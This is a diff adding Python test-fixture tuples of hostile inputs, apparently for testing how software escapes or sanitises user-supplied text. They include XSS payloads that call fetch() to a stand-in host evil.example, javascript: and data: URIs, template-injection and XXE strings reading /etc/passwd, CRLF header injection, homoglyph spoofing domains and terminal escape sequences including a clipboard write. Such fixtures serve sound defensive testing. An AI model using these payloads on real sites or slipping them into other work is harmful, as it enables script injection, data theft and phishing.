@@ -79,3 +79,142 @@ UNSEEN = (
     "\ufdfd" * 30,
 )
 """Which only a body, or what somebody types, may hold."""
+
+_RUN = "fetch('//evil.example')"
+_BREAKS = ("", '">', "'>", "`>", "</pre>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", '\\">')
+_TAGS = (
+    f"<script>{_RUN}</script>",
+    f"<img src=x onerror={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    "<img src=//evil.example/x.png srcset='//evil.example/y.png 2x'>",
+)
+_HANDLERS = ("onclick", "onfocus", "onmouseover", "onanimationstart", "onpointerenter", "ontoggle", "onwheel", "onload")
+_SCHEMES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    " javascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg onload=alert(1)>",
+    "blob:https://evil.example/x",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "https://evil.example/",
+    "mailto:a@evil.example?subject=x",
+)
+
+INJECTED = (
+    *(f"{broken}{tag}" for broken in _BREAKS for tag in _TAGS),
+    *(f'x" {handler}="{_RUN}" x="' for handler in _HANDLERS),
+    *(f"x {handler}={_RUN} style=position:fixed;inset:0" for handler in _HANDLERS),
+    *_SCHEMES,
+    *(f'<a href="{scheme}" target=_blank>{number}</a>' for number, scheme in enumerate(_SCHEMES)),
+    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
+    '<meta http-equiv=Content-Security-Policy content="default-src *">',
+    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style>.button{position:fixed;left:-9999px}</style>",
+    "</style><style>body{background:url(//evil.example/x)}",
+    "x;background:url(//evil.example/x);display:none",
+    "expression(alert(1))",
+    "<link rel=preload as=script href=//evil.example/x.js>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<svg><use href='//evil.example/x.svg#a'></svg>",
+    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><set attributeName=href to=javascript:alert(1)>",
+    "<video poster=//evil.example/x.png><source src=//evil.example/x onerror=alert(1)></video>",
+    "<audio src=//evil.example/x autoplay>",
+    "<input type=image src=//evil.example/x.png formaction=//evil.example>",
+    "<input type=hidden name=digest value=0>",
+    "<button form=x name=reason value=trusted>",
+    "<form id=x></form><button form=x formaction=javascript:alert(1)>",
+    "<select autofocus onfocus=alert(1)><option>x</select>",
+    "<dialog open>Released</dialog>",
+    "<portal src=//evil.example>",
+    "<frameset><frame src=javascript:alert(1)></frameset>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<marquee onstart=alert(1)>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<plaintext>",
+    "<table><td background=javascript:alert(1)>",
+    '{"a":"</script><script>alert(1)</script>"}',
+    '"}];alert(1);//',
+    "';alert(1);//",
+    "\\';alert(1);//",
+    "${alert(1)}",
+    "`${alert(1)}`",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{ ''.__class__.__base__.__subclasses__() }}",
+    "{{ form_token }}",
+    "{% for a in range(9) %}x{% endfor %}",
+    "{# comment #}",
+    "[[${7*7}]]",
+    "#set($x=7*7)$x",
+    "__proto__",
+    "constructor.prototype",
+    "<!channel> <@U012345> <https://evil.example|the desk>",
+    "*bold* _it_ ~gone~ `code` :white_check_mark:",
+    "[click](javascript:alert(1)) ![x](//evil.example/x.png)",
+    "[bold red]released[/] [link=https://evil.example]x[/link]",
+    "%0d%0aSet-Cookie:%20a=b",
+    "%00%1b[31m",
+    "&NewLine;&Tab;&colon;&lpar;",
+    "&#x202e;&#8203;&#0;",
+    "&lt&gt&quot&amp;lt;",
+    "--><!--",
+    "<?php echo 1; ?><?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
+    "-" * 400,
+    "M" * 900,
+    "a" * 60 + "." + "b" * 60 + "@" * 300,
+    "A" + " " * 300 + "B",
+)
+"""Markup and addresses by family: each way out of a text, with each thing to do there; in ASCII."""
+
+_MOVED = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+_NOTHING = "\u200b\u200c\u200d\u2060\ufeff\u180e\u00ad\u034f\u2061\u206a\ufff9\U000e0001"
+_CONTROLS = "".join(map(chr, (*range(0x0A), 0x0B, 0x0C, 0x0E, *range(0x1A, 0x20), 0x7F, 0x85, 0x90, 0x9B, 0x9D)))
+_POSING = "\u0430\u0435\u043e\u03bf\u0391\uff0f\u2215\u2044\u2024\uff0e\ua789\u2236\uff21\U0001d400\u0131\u0251"
+
+ODD = (
+    *(f"er{char}p.example" for char in _MOVED + _NOTHING),
+    *(f"er{char}p.example" for char in _CONTROLS),
+    *(f"p{char}ypal.example" for char in _POSING),
+    "\x1b[31mreleased\x1b[0m",
+    "\x1b[1A\x1b[2Kreleased",
+    "\x1b]0;title\x07",
+    "\x1b]52;c;Y3VybCBldmls\x07",
+    "\x1b[8mhidden\x1b[28m",
+    "\x1b(0lqqk\x1b(B",
+    "\x9b31mred\x9d0;x\x9c",
+    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
+    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645 42",
+    "\ufdfa" * 40,
+    "Z\u0351\u036b\u0343" * 120,
+    "\u0e33" * 300,
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
+    "\u4f60\u597d" * 200,
+    "\u2028\u2029\x85",
+    "\u3000\u2003\u00a0x",
+    "\ue000\uffff\U0010ffff",
+)
+"""What cannot be seen, moves what can, or passes for another, one character after the other."""
+
+BROKEN = (
+    b"\xff\xfe<script>alert(1)</script>",
+    b"\xc0\xbcscript\xc0\xbe",
+    b"\xed\xa0\x80\xed\xb0\x80",
+    b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\x80",
+    b"\x1f\x8b\x08\x00not gzip",
+    b"<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00\xff",
+    b"\x00" * 64,
+    b"\xf4\x90\x80\x80",
+    b"\xef\xbb\xbf<svg/onload=alert(1)>",
+    b"ok\xc3",
+)
+"""Bodies that are no UTF-8, or look like something else."""
+
+ALL = tuple(dict.fromkeys((*MARKUP, *UNSEEN, *INJECTED, *ODD)))
